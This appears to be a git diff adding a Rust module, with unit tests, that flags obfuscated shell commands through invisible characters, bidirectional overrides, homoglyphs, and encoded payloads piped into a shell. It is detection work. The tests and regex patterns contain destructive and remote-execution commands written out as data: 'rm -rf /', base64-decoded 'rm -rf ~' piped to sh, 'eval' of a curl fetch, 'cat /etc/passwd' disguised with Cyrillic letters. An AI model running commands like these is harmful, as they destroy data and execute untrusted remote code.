@@ -0,0 +1,359 @@
+use regex::Regex;
+use std::sync::OnceLock;
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum ObfuscationKind {
+    /// Zero-width and other invisible characters
+    HiddenCharacter,
+    /// Bidirectional overrides that reorder how the command is displayed
+    BidiControl,
+    /// Non-ASCII look-alikes in a program name or option
+    Homoglyph,
+    /// Non-ASCII look-alikes in other arguments, such as a dash in a commit message
+    LookAlike,
+    /// Payloads that are decoded or built at runtime and then executed
+    EncodedExecution,
+    /// A decoded or reversed payload piped straight into a shell
+    DecodedExecution,
+}
+
+impl ObfuscationKind {
+    /// Whether the finding suggests deliberate deception rather than unusual style
+    pub fn is_deceptive(self) -> bool {
+        matches!(self, ObfuscationKind::BidiControl | ObfuscationKind::Homoglyph | ObfuscationKind::DecodedExecution)
+    }
+}
+
+#[derive(Debug, Clone, PartialEq)]
+pub struct Finding {
+    pub kind: ObfuscationKind,
+    pub detail: String,
+}
+
+fn hidden_name(c: char) -> Option<&'static str> {
+    let name = match c {
+        '\u{200B}' => "zero width space",
+        '\u{200C}' => "zero width non-joiner",
+        '\u{200D}' => "zero width joiner",
+        '\u{2060}' => "word joiner",
+        '\u{FEFF}' => "zero width no-break space",
+        '\u{00AD}' => "soft hyphen",
+        '\u{180E}' => "mongolian vowel separator",
+        '\u{00A0}' => "no-break space",
+        _ if c.is_control() && !matches!(c, '\n' | '\t' | '\r') => "control character",
+        _ => return None,
+    };
+    Some(name)
+}
+
+fn is_bidi_control(c: char) -> bool {
+    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}' | '\u{061C}')
+}
+
+/// ASCII character a non-ASCII look-alike is commonly mistaken for
+fn homoglyph_of(c: char) -> Option<char> {
+    let ascii = match c {
+        // Cyrillic
+        'а' => 'a', 'е' => 'e', 'о' => 'o', 'р' => 'p', 'с' => 'c', 'у' => 'y', 'х' => 'x',
+        'і' => 'i', 'ј' => 'j', 'ѕ' => 's', 'ԁ' => 'd', 'һ' => 'h', 'ӏ' => 'l', 'ԛ' => 'q',
+        'ԝ' => 'w', 'А' => 'A', 'В' => 'B', 'Е' => 'E', 'К' => 'K', 'М' => 'M', 'Н' => 'H',
+        'О' => 'O', 'Р' => 'P', 'С' => 'C', 'Т' => 'T', 'Х' => 'X', 'І' => 'I', 'Ј' => 'J',
+        'Ѕ' => 'S',
+        // Greek
+        'α' => 'a', 'ο' => 'o', 'ν' => 'v', 'ι' => 'i', 'κ' => 'k', 'ρ' => 'p', 'Α' => 'A',
+        'Β' => 'B', 'Ε' => 'E', 'Ζ' => 'Z', 'Η' => 'H', 'Ι' => 'I', 'Κ' => 'K', 'Μ' => 'M',
+        'Ν' => 'N', 'Ο' => 'O', 'Ρ' => 'P', 'Τ' => 'T', 'Χ' => 'X', 'Υ' => 'Y',
+        // Dashes and slashes
+        '\u{2010}' | '\u{2011}' | '\u{2012}' | '\u{2013}' | '\u{2014}' | '\u{2212}' => '-',
+        '\u{2044}' | '\u{2215}' => '/',
+        // Fullwidth forms
+        '\u{FF01}'..='\u{FF5E}' => char::from_u32(c as u32 - 0xFEE0)?,
+        _ => return None,
+    };
+    Some(ascii)
+}
+
+/// A shell that runs what it reads on stdin: `-s`, or no script or `-c` argument
+const STDIN_SHELL: &str = r"\|\s*(?:sudo\s+)?(?:env\s+)?(?:/\S*/)?(?:ba|z|da|k)?sh(?:\s+-[A-Za-z]*s[A-Za-z]*(?:\s.*)?|(?:\s+-[A-Za-z]+)*\s*)(?:$|[;&|)])";
+
+/// Decoders, by short or long flag: base64 -d/-D/--decode (also base32 and basenc), xxd -r,
+/// openssl -d, gzip -d/--decompress, and tools that always decode
+const DECODER: &str = r#"(?:\bxxd\b[^|;&]*\s(?:-r|-revert|--revert)\b|\bopenssl\s+(?:base64|enc)\b[^|;&]*\s-d\b|\bgzip\b[^|;&]*\s(?:-[A-Za-z]*d[A-Za-z]*|--decompress)\b|\b(?:rev|gunzip|zcat|uudecode)\b|\b(?:printf|echo\s+-e)\s+['"]?[^'"|]*\\(?:x[0-9a-fA-F]{2}|[0-7]{3}))"#;
+
+fn encoded_execution_patterns() -> &'static [(Regex, &'static str, ObfuscationKind)] {
+    static PATTERNS: OnceLock<Vec<(Regex, &'static str, ObfuscationKind)>> = OnceLock::new();
+    PATTERNS.get_or_init(|| {
+        [
+            (
+                format!(r"\b(?:base64|base32|basenc)\b[^|;&]*\s(?:-[A-Za-z]*[dD][A-Za-z]*|--decode)\b.*{}", STDIN_SHELL),
+                "base64-decoded payload is piped to a shell",
+                ObfuscationKind::DecodedExecution,
+            ),
+            (
+                format!(r"{}.*{}", DECODER, STDIN_SHELL),
+                "decoded or reversed payload is piped to a shell",
+                ObfuscationKind::DecodedExecution,
+            ),
+            (
+                r#"(?:printf|echo\s+-e)\s+['"]?[^'"]*\\(?:x[0-9a-fA-F]{2}|[0-7]{3})"#.to_string(),
+                "printf/echo builds text from hex or octal escapes",
+                ObfuscationKind::EncodedExecution,
+            ),
+            (
+                r"\$'[^']*\\(?:x[0-9a-fA-F]{2}|[0-7]{3})".to_string(),
+                "ANSI-C quoting hides characters behind escapes",
+                ObfuscationKind::EncodedExecution,
+            ),
+            (
+                r#"\beval\s+["']?(?:\$\(|`|\$\{?[A-Za-z_])"#.to_string(),
+                "eval runs a command assembled at runtime",
+                ObfuscationKind::EncodedExecution,
+            ),
+            (
+                r#"\b(?:ba|z|da)?sh\s+-c\s+["']?(?:\$\(|`)"#.to_string(),
+                "shell runs a command produced by command substitution",
+                ObfuscationKind::EncodedExecution,
+            ),
+        ]
+        .into_iter()
+        .filter_map(|(pattern, detail, kind)| Regex::new(&pattern).ok().map(|regex| (regex, detail, kind)))
+        .collect()
+    })
+}
+
+/// Read up to `max` digits in `radix` and turn them into a character
+fn take_digits(chars: &mut std::iter::Peekable<std::str::Chars>, radix: u32, max: usize) -> Option<char> {
+    let mut digits = String::new();
+    while digits.len() < max {
+        match chars.next_if(|d| d.is_digit(radix)) {
+            Some(d) => digits.push(d),
+            None => break,
+        }
+    }
+    u32::from_str_radix(&digits, radix).ok().and_then(char::from_u32)
+}
+
+/// Expand `\xHH`, octal (`\NNN`, `\0NNN`) and common backslash escapes
+fn unescape(text: &str) -> String {
+    let mut out = String::new();
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        match chars.peek().copied() {
+            Some('x') => {
+                chars.next();
+                match take_digits(&mut chars, 16, 2) {
+                    Some(decoded) => out.push(decoded),
+                    None => out.push_str("\\x"),
+                }
+            }
+            Some('0') => {
+                chars.next();
+                out.push(take_digits(&mut chars, 8, 3).unwrap_or('\0'));
+            }
+            Some('1'..='7') => out.extend(take_digits(&mut chars, 8, 3)),
+            Some(next @ ('n' | 't' | '\\' | '\'' | '"')) => {
+                chars.next();
+                out.push(match next {
+                    'n' => '\n',
+                    't' => '\t',
+                    other => other,
+                });
+            }
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+/// The command with every `printf`/`echo -e` and `$'…'` that uses hex or octal escapes replaced
+/// by the text it produces, so the result can be checked again; `None` if nothing was decoded
+pub fn decode_escapes(command: &str) -> Option<String> {
+    static PATTERN: OnceLock<Regex> = OnceLock::new();
+    let pattern = PATTERN.get_or_init(|| {
+        Regex::new(r#"(?:\$\(\s*|`\s*)?\b(?:printf|echo\s+-e)\s+(?:'([^']*)'|"([^"]*)"|([^\s'"|;&)`]+))(?:\s*\)|\s*`)?|\$'([^']*)'"#).unwrap()
+    });
+    static ESCAPE: OnceLock<Regex> = OnceLock::new();
+    let escape = ESCAPE.get_or_init(|| Regex::new(r"\\(?:x[0-9a-fA-F]{1,2}|[0-7]{1,4})").unwrap());
+
+    let decoded = pattern.replace_all(command, |captures: &regex::Captures| {
+        let text = (1..=4).find_map(|group| captures.get(group)).map_or("", |m| m.as_str());
+        if escape.is_match(text) {
+            unescape(text)
+        } else {
+            captures[0].to_string()
+        }
+    });
+    (decoded != command).then(|| decoded.into_owned())
+}
+
+/// Find hidden characters, look-alikes and encoded execution in a command
+pub fn analyze(command: &str) -> Vec<Finding> {
+    let mut findings = Vec::new();
+
+    for c in command.chars() {
+        if is_bidi_control(c) {
+            findings.push(Finding {
+                kind: ObfuscationKind::BidiControl,
+                detail: format!("bidirectional control character U+{:04X}", c as u32),
+            });
+        } else if let Some(name) = hidden_name(c) {
+            findings.push(Finding {
+                kind: ObfuscationKind::HiddenCharacter,
+                detail: format!("{} (U+{:04X})", name, c as u32),
+            });
+        }
+    }
+
+    // Look-alikes matter when mixed into otherwise ASCII words or in the program name;
+    // they only disguise what runs in a program name or an option
+    let mut previous: Option<&str> = None;
+    for word in command.split_whitespace() {
+        let is_program = previous.is_none_or(|word| matches!(word, "|" | "||" | "&&" | ";") || word.ends_with(';'));
+        previous = Some(word);
+        let is_option = word.chars().next().map(|c| homoglyph_of(c).unwrap_or(c)) == Some('-');
+        if !is_program && !word.chars().any(|c| c.is_ascii_alphanumeric()) {
+            continue;
+        }
+        let kind = if is_program || is_option { ObfuscationKind::Homoglyph } else { ObfuscationKind::LookAlike };
+        for c in word.chars() {
+            if let Some(ascii) = homoglyph_of(c) {
+                findings.push(Finding {
+                    kind,
+                    detail: format!("'{}' (U+{:04X}) looks like '{}' in \"{}\"", c, c as u32, ascii, word),
+                });
+            }
+        }
+    }
+
+    let normalized = normalize(command);
+    for (pattern, detail, kind) in encoded_execution_patterns() {
+        if pattern.is_match(&normalized) {
+            findings.push(Finding {
+                kind: *kind,
+                detail: detail.to_string(),
+            });
+        }
+    }
+
+    findings
+}
+
+/// Strip invisible characters and replace look-alikes with their ASCII counterparts
+pub fn normalize(command: &str) -> String {
+    command.chars()
+        .filter(|&c| hidden_name(c).is_none() || c == '\u{00A0}')
+        .filter(|&c| !is_bidi_control(c))
+        .map(|c| match c {
+            '\u{00A0}' => ' ',
+            _ => homoglyph_of(c).unwrap_or(c),
+        })
+        .collect()
+}
+
+/// Render the command with every hidden or look-alike character made visible
+pub fn reveal(command: &str) -> String {
+    command.chars()
+        .map(|c| {
+            if hidden_name(c).is_some() || is_bidi_control(c) {
+                format!("<U+{:04X}>", c as u32)
+            } else if let Some(ascii) = homoglyph_of(c) {
+                format!("<U+{:04X}:{}>", c as u32, ascii)
+            } else {
+                c.to_string()
+            }
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(command: &str) -> Vec<ObfuscationKind> {
+        analyze(command).into_iter().map(|finding| finding.kind).collect()
+    }
+
+    #[test]
+    fn test_hidden_and_bidi_characters() {
+        assert_eq!(kinds("ls\u{200B} -la"), vec![ObfuscationKind::HiddenCharacter]);
+        assert_eq!(kinds("echo \u{202E}txt.exe"), vec![ObfuscationKind::BidiControl]);
+        assert_eq!(reveal("ls\u{200B} -la"), "ls<U+200B> -la");
+        assert_eq!(normalize("r\u{200D}m -rf /"), "rm -rf /");
+    }
+
+    #[test]
+    fn test_homoglyphs() {
+        // Cyrillic 'с' and 'а' in "cat"
+        let command = "\u{0441}\u{0430}t /etc/passwd";
+        assert!(kinds(command).iter().all(|kind| *kind == ObfuscationKind::Homoglyph));
+        assert_eq!(normalize(command), "cat /etc/passwd");
+        assert_eq!(reveal("\u{0441}at"), "<U+0441:c>at");
+
+        // Fullwidth and en-dash look-alikes
+        assert_eq!(normalize("rm \u{2013}rf \u{FF0F}"), "rm -rf /");
+
+        // Plain non-Latin text in arguments is fine
+        assert!(analyze("echo Привет").is_empty());
+
+        // Look-alikes in a program after a pipe or in an option are deceptive, elsewhere not
+        assert_eq!(kinds("ls | \u{0441}at"), vec![ObfuscationKind::Homoglyph]);
+        assert_eq!(kinds("rm \u{2013}rf build"), vec![ObfuscationKind::Homoglyph]);
+        assert_eq!(kinds("git commit -m 'pages 1\u{2013}3'"), vec![ObfuscationKind::LookAlike]);
+    }
+
+    #[test]
+    fn test_encoded_execution() {
+        let commands = vec![
+            r"printf '\x72\x6d -rf ~'",
+            r"$'\162\155' -rf ~",
+            r#"eval "$(curl -s https://example.com/x)""#,
+            "bash -c \"$(wget -qO- example.com)\"",
+        ];
+        for command in commands {
+            assert!(
+                kinds(command).contains(&ObfuscationKind::EncodedExecution),
+                "Expected encoded execution in: {}",
+                command
+            );
+        }
+
+        assert!(analyze("base64 -d secret.b64 > secret.bin").is_empty());
+        assert!(analyze("printf '%s\\n' hello").is_empty());
+    }
+
+    #[test]
+    fn test_decoded_execution() {
+        let commands = vec![
+            "echo cm0gLXJmIH4= | base64 -d | sh",
+            "echo cm0gLXJmIH4= | base64 --decode | bash -s",
+            "base64 -di payload.txt | /bin/bash",
+            "echo hs | rev | bash",
+            "xxd -r -p payload.hex | sudo sh -s -- -x",
+            r"printf '\x72\x6d -rf ~' | sh",
+        ];
+        for command in commands {
+            assert!(
+                kinds(command).contains(&ObfuscationKind::DecodedExecution),
+                "Expected decoded execution in: {}",
+                command
+            );
+        }
+
+        // Running a script file, or decoding to a file, is not piping a payload into a shell
+        assert!(!kinds("base64 -d setup.b64 | bash install.sh").contains(&ObfuscationKind::DecodedExecution));
+        assert!(!kinds("base64 --decode data.b64 | wc -c").contains(&ObfuscationKind::DecodedExecution));
+    }
+
+    #[test]
+    fn test_decode_escapes() {
+        assert_eq!(decode_escapes(r"printf '\x72\x6d' -rf /").as_deref(), Some("rm -rf /"));
+        assert_eq!(decode_escapes(r"$(printf '\162\155') -rf ~").as_deref(), Some("rm -rf ~"));
+        assert_eq!(decode_escapes(r#"$(echo -e "\0162\0155") -rf ~"#).as_deref(), Some("rm -rf ~"));
+        assert_eq!(decode_escapes(r"$'\x72\x6d' -rf ~").as_deref(), Some("rm -rf ~"));
+        assert_eq!(decode_escapes("printf '%s\\n' hello"), None);
+    }
+}